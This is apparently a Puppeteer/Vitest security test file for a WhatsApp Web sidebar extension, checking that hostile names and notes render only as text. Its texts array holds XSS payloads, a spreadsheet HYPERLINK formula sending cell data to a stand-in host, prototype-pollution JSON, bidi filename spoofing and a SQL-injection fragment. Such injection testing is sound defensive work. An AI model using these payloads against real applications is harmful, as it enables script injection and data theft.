import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';

import { cleanTitle } from '@/lib/whatsapp/text/clean-title';
import { byRole, clickRole, typeInto, waitForText } from '@/tests/support/harness/find';
import { heading, openChat, waitForHeading } from '@/tests/support/harness/product';
import { createShelf } from '@/tests/support/journey/product-shelf';
import { addFact, dismissMessages, insertInto, saveContact } from '@/tests/support/journey/steps';
import { watchPage } from '@/tests/support/journey/watch-page';
import { HOSTILE_NAMES } from '@/tests/support/whatsapp-web/page/data/hostile';
import { serveStandIn } from '@/tests/support/whatsapp-web/server/serve';

import type { Product } from '@/tests/support/harness/product';
import type { Watched } from '@/tests/support/journey/watch-page';
import type { StandInServer } from '@/tests/support/whatsapp-web/server/serve';
import type { Frame, Page } from 'puppeteer';

const texts = [
  '<img src=x onerror="window.hacked=10;alert(10)">',
  '<script>window.hacked=11</script><iframe src="https://example.invalid/"></iframe>',
  '<svg onload="window.hacked=12"><a href="javascript:window.hacked=13">press</a></svg>',
  '=HYPERLINK("https://example.invalid/?"&A1,"open")',
  'javascript:window.hacked=14//https://example.invalid/picture.png',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":true}}',
  'abc\u202Efdp.exe\u202C and \u2066\u2067more\u2069 after',
  'long ' + 'x'.repeat(10_235),
] as const;
const [picture, script] = texts;
const first = 10;

const shelf = createShelf();
let standIn: StandInServer;
let product: Product;
let page: Page;
let contact: Frame;
let watched: Watched;

beforeAll(async () => {
  standIn = await serveStandIn();
  product = await shelf.start(standIn);
  await product.accept();
  ({ page, contact } = await product.chat('chats=30&hostile=1&load=20&settle=100&open=0'));
  await waitForHeading(contact, 'Asha Verma');
  watched = watchPage(page);
});
afterEach(() => product.assertClean());
afterAll(async () => {
  await shelf.closeAll();
  await standIn.close();
});

/** Nothing of a text became an element, a script that ran, or a wider page. */
async function expectOnlyText(place: Page | Frame): Promise<void> {
  const found = await place.evaluate(() => {
    const wide = [document.documentElement, ...document.querySelectorAll('*')].filter((element) => {
      const { overflowX } = getComputedStyle(element);
      const scrolls = element === document.documentElement || overflowX === 'auto' || overflowX === 'scroll';
      return scrolls && element.scrollWidth > element.clientWidth + 1;
    });
    return {
      strange: document.querySelectorAll(
        'body :is(img, script, iframe, object, embed, form[action], b, marquee)',
      ).length,
      links: [...document.querySelectorAll('a, svg a')].filter(
        (link) => !/^(https:\/\/|chrome-extension:\/\/|#)/.test(link.getAttribute('href') ?? 'https://'),
      ).length,
      handlers: [...document.querySelectorAll('*')].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      hacked: Reflect.get(window, 'hacked') as unknown,
      polluted: Object.keys(Object.prototype).length + Number('polluted' in {}),
      wide: wide.map((element) => `${element.tagName}.${element.className}`),
    };
  });
  expect(found).toEqual({ strange: 0, links: 0, handlers: 0, hacked: undefined, polluted: 0, wide: [] });
}

const marks = /[\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]|\p{Cc}/u;

describe('hostile names', () => {
  test.each(
    HOSTILE_NAMES.map((name, index) => ({
      name,
      at: first + index,
      short: JSON.stringify(name.slice(0, 40)),
    })),
  )('is shown as text and saved as text: $short', async ({ name, at }) => {
    await openChat(page, at);
    const wanted = cleanTitle(name).trim();
    await contact.waitForFunction(
      (text) => document.querySelector('h1')?.textContent?.trim() === text,
      { timeout: 10_000, polling: 50 },
      wanted,
    );
    expect(await heading(contact)).not.toMatch(marks);
    await saveContact(contact);
    expect(await heading(contact)).toBe(wanted);
    await expectOnlyText(contact);
  });
});

describe('hostile texts that are typed', () => {
  test('are shown in the contact sidebar as they were typed', async () => {
    await openChat(page, first);
    await waitForHeading(contact, '<img src=x');
    for (const text of texts) {
      await insertInto(contact, 'Note', text);
      await clickRole(contact, 'button', 'Add note');
      await waitUntilListed(contact, text);
    }
    await addFact(contact, 'company', picture);
    await addFact(contact, 'quick fact', script);
    await clickRole(contact, 'button', 'Add label');
    await typeInto(contact, 'Find or make a label', picture);
    await (await contact.waitForSelector('button[type=submit]'))?.click();
    await contact.waitForFunction(
      () => document.querySelector<HTMLInputElement>('[role=dialog] input')?.value === '',
      { timeout: 10_000, polling: 50 },
    );
    await page.keyboard.press('Escape');
    await dismissMessages(contact);
    await clickRole(contact, 'button', 'Add follow-up');
    await insertInto(contact, 'What to do', script);
    await clickRole(contact, 'button', 'Tomorrow');
    await byRole(contact, 'button', 'Add follow-up');
    await clickRole(contact, 'button', 'Timeline');
    await contact.waitForSelector('ol li');
    await insertInto(contact, 'Note', `${picture} as a draft`);
    await waitForText(contact, 'Draft kept');
    const shown = await contact.evaluate(() => document.body.innerText);
    for (const text of texts.slice(0, 8)) expect(shown).toContain(text);
    await expectOnlyText(contact);
  });

  test('keep the direction of what stands around them', async () => {
    const loose = await contact.evaluate(() =>
      [...document.querySelectorAll('*')]
        .filter((element) =>
          [...element.childNodes].some((node) => node.nodeType === 3 && node.textContent?.includes('\u202e')),
        )
        .filter((element) => element.closest('bdi, [dir=auto], textarea') === null)
        .map((element) => element.outerHTML.slice(0, 100)),
    );
    expect(loose).toEqual([]);
  });

  test('make the work page neither run nor wider, at 360 pixels', async () => {
    const work = await product.extensionPage('sidebar.html?view=work');
    await work.setViewport({ width: 360, height: 800 });
    await waitForText(work, script);
    const seen = watchPage(work);
    await expectOnlyText(work);
    await clickRole(work, 'tab', 'Contacts');
    await work.waitForSelector('[role=option]');
    await waitForText(work, '18 contacts');
    await expectOnlyText(work);
    for (const asked of ['<img src=x', '__proto__', 'HYPERLINK', '"; DROP']) {
      const box = await byRole(work, 'searchbox', 'Search');
      await box.click({ count: 3 });
      await box.type(asked);
      await work.waitForFunction(
        (text) =>
          [...document.querySelectorAll('[role=option]')].some((row) => row.textContent?.includes(text)),
        { timeout: 10_000, polling: 50 },
        asked,
      );
      await expectOnlyText(work);
    }
    expect(seen).toEqual({ requests: [], dialogs: [] });
    await work.close();
  });

  test('are text in every drill-down of the options page, at 360 pixels too', async () => {
    const options = await product.extensionPage('options.html');
    await waitForText(options, '18 items');
    const seen = watchPage(options);
    await openAll(options);
    const shown = await allRows(options);
    for (const text of [picture, script, '__proto__', texts[3], `${picture} as a draft`])
      expect(shown).toContain(text);
    for (const width of [1_280, 360]) {
      await options.setViewport({ width, height: 800 });
      await expectOnlyText(options);
    }
    await clickRole(options, 'button', 'Erase a customer');
    await (await byRole(options, 'searchbox', 'Name or phone number')).type('img');
    await waitForText(options, '<img src=x');
    await expectOnlyText(options);
    expect(seen).toEqual({ requests: [], dialogs: [] });
    await options.close();
  });

  test('asked for nothing, said nothing and sent nothing, all the time', async () => {
    expect(watched).toEqual({ requests: [], dialogs: [] });
    expect(await page.evaluate(() => window.standIn.sends.length)).toBe(0);
    expect(await page.evaluate(() => Reflect.get(window, 'hacked') as unknown)).toBeUndefined();
  });
});

async function waitUntilListed(place: Frame, text: string): Promise<void> {
  await place.waitForFunction(
    (wanted) => [...document.querySelectorAll('li bdi')].some((each) => each.textContent === wanted),
    { timeout: 10_000, polling: 50 },
    text,
  );
}

/** Opens every table and its items. */
async function openAll(options: Page): Promise<void> {
  for (const selector of ['h3 button[aria-expanded=false]', 'h4 button[aria-expanded=false]']) {
    for (const button of await options.$$(selector)) await button.click();
  }
  await options.waitForFunction(
    () => document.querySelectorAll('h4 button[aria-expanded=true]').length > 10,
    { polling: 50 },
  );
}

/** The text of every page of items. */
async function allRows(options: Page): Promise<string> {
  const pages = [await options.evaluate(() => document.body.innerText)];
  for (let more = 0; more < 12; more += 1) {
    const older = await options.$$('::-p-aria([role="button"][name="Older"])');
    const open = [];
    for (const button of older)
      if (!(await button.evaluate((each) => each.hasAttribute('disabled')))) open.push(button);
    if (open.length === 0) break;
    for (const button of open) await button.click();
    await options.waitForFunction(
      (before) => document.body.innerText !== before,
      { polling: 50 },
      pages.at(-1),
    );
    pages.push(await options.evaluate(() => document.body.innerText));
  }
  return pages.join('\n');
}
